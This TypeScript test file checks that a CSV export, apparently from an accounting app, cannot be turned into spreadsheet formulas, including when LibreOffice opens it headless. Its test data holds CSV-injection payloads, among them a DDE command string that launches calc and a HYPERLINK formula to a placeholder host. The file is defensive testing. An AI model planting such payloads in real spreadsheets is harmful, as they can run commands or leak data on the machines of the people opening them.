// What `exportar` writes is opened with a spreadsheet, of whatever separator: no text of the book runs there as a formula, numbers
// stay numbers, and what comes back is what went out.

import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import Papa from 'papaparse';
import { csvText } from '../../src/domain/csv-text';
import { desvestir } from '../../src/domain/parse/vestido';
import { cleanText } from '../../src/domain/texto';
import { csvTable } from '../../src/terminal/csv-table';
import type { Area } from './area';

const SIGNOS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const ANTES = [
  ...[
    '',
    ' ',
    '\t',
    '\r',
    '\n',
    '\u00a0',
    '\u200b',
    '\ufeff',
    '\u0000',
    "'",
    "''",
    '"',
    '“',
    '{',
    '\\',
  ],
  ...[
    'a;',
    'a,',
    'a\t',
    'a|',
    'a:',
    'a¬',
    'a\n',
    'a\r\n',
    'a; ',
    'a;"',
    'a,"',
    'a,""',
    "a;'",
    '";',
    '",',
    '"",',
  ],
  ...['a,b;c\t', 'a;;', 'a\n\n', '=;', "'=1;", ';\u2060', 'a '],
];
const FORMULAS = [
  '1+1',
  'HYPERLINK("https://ejemplo.invalid/"&A1;"ver")',
  "cmd|'/C calc'!A0",
  '1+1,b',
  '1+1;b',
];
const TEXTOS = ANTES.flatMap((antes) =>
  SIGNOS.flatMap((signo) => FORMULAS.map((formula) => antes + signo + formula)),
);
const SEPARADORES = [';', ',', '\t', '|', ' ', ':', '¬'];
/** The separators of a spreadsheet, as LibreOffice takes them, and the quotation mark: its number. */
const ABIERTO = ['59,34', '44,34', '9,34', '124,34', '59/44/9/124,34', '32,34', '58,34', '59,0'];
const NUMEROS = [-5, -1250.5, 0.025, 3];

export const csvQueSale = (): Area => ({
  intentos: TEXTOS.length + ABIERTO.length,
  enMuestra: 60,
  nombreDe: (intento) =>
    JSON.stringify(TEXTOS[intento] ?? `LibreOffice ${ABIERTO[intento - TEXTOS.length]}`),
  intentar: (intento) => {
    const texto = TEXTOS[intento];
    return texto === undefined ? abrir(ABIERTO[intento - TEXTOS.length] as string) : partir(texto);
  },
});

/** A register whose header and cells are the text, and its numbers. */
const exportado = (textos: readonly string[]): string =>
  csvText(
    [textos[0] ?? '', 'Número', 'Otro'],
    textos.map((texto, i) => [texto, NUMEROS[i % NUMEROS.length] ?? 0, texto]),
  );

function partir(texto: string): readonly string[] {
  const csv = exportado([texto, texto, texto, texto]);
  const live = SEPARADORES.flatMap((delimiter) =>
    Papa.parse<string[]>(csv, { delimiter })
      .data.flat()
      .filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^-[\d.,]+$/.test(cell))
      // A blank alone opens a new cell for nobody who did not ask for it, and may have numbers after it.
      .filter((cell) => delimiter !== ' ' || /^[=＝]/.test(cell))
      .map((cell) => `with ${JSON.stringify(delimiter)} a cell is ${JSON.stringify(cell)}`),
  );
  const [, ...filas] = csvTable(csv);
  const back = filas.flatMap((fila) =>
    [fila[0], fila[2]].map((cell) => cleanText(String(desvestir(cell)))),
  );
  const changed = back.filter((cell) => cell !== cleanText(texto));
  const numeros = filas.map((fila) => fila[1]);
  return [
    ...live,
    ...changed.map((cell) => `it comes back as ${JSON.stringify(cell)}`),
    ...(numeros.join() === '-5,-1250,5,0,0250,3' ? [] : [`numbers are ${numeros.join()}`]),
  ];
}

/** All of them in LibreOffice, where it is there. */
function abrir(opciones: string): readonly string[] {
  if (spawnSync('soffice', ['--version']).status !== 0) return [];
  const folder = mkdtempSync(join(tmpdir(), 'libro-pam-csv-'));
  try {
    writeFileSync(join(folder, 'salida.csv'), `\ufeff${exportado(TEXTOS)}`);
    const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'perfil')).href}`;
    const filter = `--infilter=CSV:${opciones},76,1,,1033,false,true`;
    const args = [profile, '--headless', '--convert-to', 'fods', '--outdir', folder, filter];
    execFileSync('soffice', [...args, join(folder, 'salida.csv')], {
      stdio: 'ignore',
      timeout: 120_000,
    });
    const saved = readFileSync(join(folder, 'salida.fods'), 'utf8');
    return [...saved.matchAll(/table:formula="([^"]*)"/g)].map(([, f]) => `it calculates ${f}`);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}
